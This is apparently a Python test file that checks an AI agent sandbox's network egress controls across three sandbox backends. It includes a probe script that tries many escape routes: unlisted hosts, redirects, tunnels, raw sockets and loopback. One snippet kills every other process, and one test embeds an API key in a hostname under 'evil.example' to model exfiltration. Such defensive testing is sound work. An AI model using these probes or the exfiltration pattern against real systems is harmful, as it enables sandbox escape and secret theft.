"""What an agent in its sandbox reaches of the network, with a list of hosts, with `true` and without."""

import asyncio
import json
import os
import socket
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from steelyard.errors import ProviderError
from steelyard.model.request import Reply
from steelyard.ports import Sandbox
from steelyard.providers.command.provider import CommandProvider
from steelyard.sandbox.bubblewrap.sandbox import BubblewrapSandbox
from steelyard.sandbox.gvisor.sandbox import GvisorSandbox
from steelyard.sandbox.oci.sandbox import OciSandbox
from tests.providers.agents import ran, request_for, settings_for
from tests.providers.command.egress.internet import OWN, PUBLIC, Internet, internet
from tests.sandbox.traces import left_since, traces

SANDBOXES = {"bubblewrap": BubblewrapSandbox, "gvisor": GvisorSandbox, "oci": OciSandbox}
NAMES = {"files.example": [PUBLIC], "evil.example": [PUBLIC], "own.example": [OWN]}
# What comes back of a request is its status; everything else ends in an error, or the sandbox leaks.
TRY = """
import os, socket, sys, urllib.error, urllib.request
port, abstract = int(sys.argv[1]), "\\0" + sys.argv[2]

def fetched(url):
    try:
        with urllib.request.urlopen(url, timeout=30) as response: return response.status
    except urllib.error.HTTPError as error: return error.code

def tunnelled(target, proxy=None):
    line = socket.socket(socket.AF_UNIX) if proxy else socket.socket()
    line.settimeout(30)
    line.connect(proxy or ("127.0.0.1", int(os.environ["HTTPS_PROXY"].rpartition(":")[2])))
    line.sendall(f"CONNECT {target} HTTP/1.1\\r\\n\\r\\n".encode())
    return int(line.recv(1000).split()[1])

def unix(name, kind=socket.SOCK_STREAM):
    socket.socket(socket.AF_UNIX, kind).connect(name)
    return "reached"

def sent_by_pair(name):
    socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b"x", name)
    return "reached"

def tcp(host, port):
    socket.create_connection((host, port), 3)
    return "reached"

def udp(host, port):
    line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    line.settimeout(1)
    line.sendto(b"x", (host, port))
    line.recv(100)
    return "reached"

for name, attempt in {
    "listed": lambda: fetched(f"http://files.example:{port}/"),
    "tunnel": lambda: tunnelled(f"files.example:{port}"),
    "not listed": lambda: fetched(f"http://evil.example:{port}/"),
    "redirected": lambda: fetched(f"http://files.example:{port}/to/evil.example:{port}"),
    "leads inside": lambda: fetched(f"http://own.example:{port}/"),
    "own address by proxy": lambda: tunnelled(f"127.0.0.1:{port}"),
    "the socket itself": lambda: tunnelled(f"evil.example:{port}", ".steelyard/proxy.sock"),
    "own address": lambda: tcp("127.0.0.1", port),
    "public address": lambda: tcp("127.0.0.2", port),
    "far address": lambda: tcp("192.0.2.1", 443),
    "IPv6": lambda: tcp("2606:4700:4700::1111", 443),
    "name": lambda: socket.getaddrinfo("files.example", port) and "reached",
    "DNS": lambda: udp("192.0.2.1", 53),
    "DNS of this machine": lambda: udp("127.0.0.53", 53),
    "abstract": lambda: unix(abstract),
    "abstract datagrams": lambda: sent_by_pair(abstract + "-datagrams"),
    "raw": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1) and "reached",
    "packets": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW) and "reached",
    "virtual machine": lambda: socket.socket(40, socket.SOCK_STREAM) and "reached",
}.items():
    try: print(name, attempt(), sep=": ")
    except (OSError, KeyError): print(name, "nothing", sep=": ")
"""
NOTHING = "nothing"
PATIENCE_S = 200.0


@pytest.fixture(params=SANDBOXES)
def sandbox(request: pytest.FixtureRequest) -> Iterator[Sandbox]:
    made = SANDBOXES[request.param]()
    yield made
    made.close()


@pytest.fixture
def net() -> Iterator[Internet]:
    with internet(NAMES) as served:
        yield served


@pytest.fixture
def abstract() -> Iterator[str]:
    """A name under which services of this machine listen, for streams and for datagrams."""
    name = f"steelyard-egress-{os.getpid()}"
    with socket.socket(socket.AF_UNIX) as server, socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as other:
        server.bind(f"\0{name}")
        server.listen()
        other.bind(f"\0{name}-datagrams")
        yield name


def tried(net: Internet, sandbox: Sandbox, abstract: str, **options: str) -> tuple[dict[str, str], Reply]:
    """Let an agent try everything, and return what became of it."""
    settings = replace(settings_for(TRY, str(net.port), abstract, **options), timeout_s=PATIENCE_S)

    async def once() -> Reply:
        provider = CommandProvider(settings, sandbox=sandbox, make_proxy=net.make_proxy())
        try:
            return await provider.generate(request_for())
        finally:
            await provider.close()

    reply = asyncio.run(once())
    return dict(line.split(": ", 1) for line in reply.text.splitlines()), reply


def test_an_agent_reaches_the_hosts_that_are_listed_and_nothing_else(
    net: Internet, sandbox: Sandbox, abstract: str
) -> None:
    before = traces()

    seen, reply = tried(net, sandbox, abstract, network=f"files.example:{net.port},own.example:{net.port}")

    by_proxy = {"listed": "200", "tunnel": "200"}
    by_proxy |= dict.fromkeys(
        ("not listed", "redirected", "leads inside", "own address by proxy", "the socket itself"), "403"
    )
    assert {name: what for name, what in seen.items() if what != NOTHING} == by_proxy
    assert len(seen) == 19
    assert not net.heads[OWN]
    verdicts = {(entry["host"], entry["verdict"]): entry for entry in json.loads(reply.egress or "")}
    assert verdicts["files.example", "allowed"]["requests"] == 3
    assert verdicts["evil.example", "not_listed"]["requests"] == 3
    assert verdicts["own.example", "not_public"]["requests"] == 1
    assert verdicts["files.example", "allowed"]["bytes_received"] > 0
    assert left_since(before, traces) == {}


def test_with_every_public_host_this_machine_stays_out_of_reach(
    net: Internet, sandbox: Sandbox, abstract: str
) -> None:
    seen, _ = tried(net, sandbox, abstract, network="true")

    reached = dict.fromkeys(("listed", "tunnel", "not listed", "redirected", "the socket itself"), "200")
    refused = dict.fromkeys(("leads inside", "own address by proxy"), "403")
    assert {name: what for name, what in seen.items() if what != NOTHING} == reached | refused
    assert not net.heads[OWN]


def test_without_a_network_nothing_is_reached_and_nothing_is_logged(
    net: Internet, sandbox: Sandbox, abstract: str
) -> None:
    seen, reply = tried(net, sandbox, abstract)

    assert set(seen.values()) == {NOTHING}
    assert reply.egress is None


def test_an_agent_that_stops_the_forwarder_has_no_network_left(net: Internet) -> None:
    source = f"""
import os, signal
for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
    try: pid != os.getpid() and os.kill(pid, signal.SIGKILL)
    except OSError: pass
{TRY}"""
    settings = settings_for(source, str(net.port), "none", network=f"files.example:{net.port}")
    settings = replace(settings, timeout_s=PATIENCE_S)
    provider = CommandProvider(settings, sandbox=BubblewrapSandbox(), make_proxy=net.make_proxy())
    reply = asyncio.run(provider.generate(request_for()))

    seen = dict(line.split(": ", 1) for line in reply.text.splitlines())
    assert {name: what for name, what in seen.items() if what != NOTHING} == {"the socket itself": "403"}


def test_a_service_of_this_machine_is_reached_if_its_address_is_listed(net: Internet) -> None:
    fetch = f"import urllib.request; print(urllib.request.urlopen('http://{OWN}:{net.port}/').read())"

    reply = ran(fetch, network=f"{OWN}:{net.port}")

    assert reply.text == "b'hello'\n"
    assert len(net.heads[OWN]) == 1


def test_programs_find_the_proxy_and_the_certificates() -> None:
    source = """
import os
names = ("HTTP_PROXY", "https_proxy", "ALL_PROXY", "all_proxy")
print(len({os.environ[name] for name in names}), os.environ["NO_PROXY"])
print(os.path.isdir("/etc/ssl/certs") or os.path.isdir("/etc/pki"))
"""
    expected = Path("/etc/ssl/certs").is_dir() or Path("/etc/pki/tls/certs").is_dir()

    assert ran(source, network="[]").text == f"1 localhost,127.0.0.1,::1\n{expected}\n"


def test_the_agent_ends_as_it_would_without_the_forwarder() -> None:
    with pytest.raises(ProviderError, match=r"exit.*3"):
        ran("import sys; print('oh dear', file=sys.stderr); sys.exit(3)", network="[]")
    with pytest.raises(ProviderError, match="signal 9"):
        ran("import os; os.kill(os.getpid(), 9)", network="[]")

    assert ran("import sys; print(sys.stdin.read())", network="[]").text == "Add two numbers.\n"
    assert ran("import os; print(os.wait())", network="[]", allow_failure="true").finish_reason == "error"


def test_a_failed_agent_is_reported_with_the_hosts_that_it_was_refused() -> None:
    source = "import urllib.request; urllib.request.urlopen('http://telemetry.example/')"

    with pytest.raises(ProviderError) as raised:
        ran(source, network="[]")

    assert str(raised.value).endswith("; hosts not reached: telemetry.example (not_listed)")
    assert json.loads(raised.value.egress or "")[0]["host"] == "telemetry.example"


def test_keys_that_were_passed_show_up_in_no_log(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AGENT_API_KEY", "SK-1234567890")
    source = """
import os, urllib.request
try: urllib.request.urlopen(f"http://{os.environ['AGENT_API_KEY']}.evil.example/")
except OSError as error: print(error.code)
"""
    reply = ran(source, network="[]", pass_env="AGENT_API_KEY")

    assert reply.text == "403\n"
    assert json.loads(reply.egress or "")[0]["host"] == "[AGENT_API_KEY].evil.example"
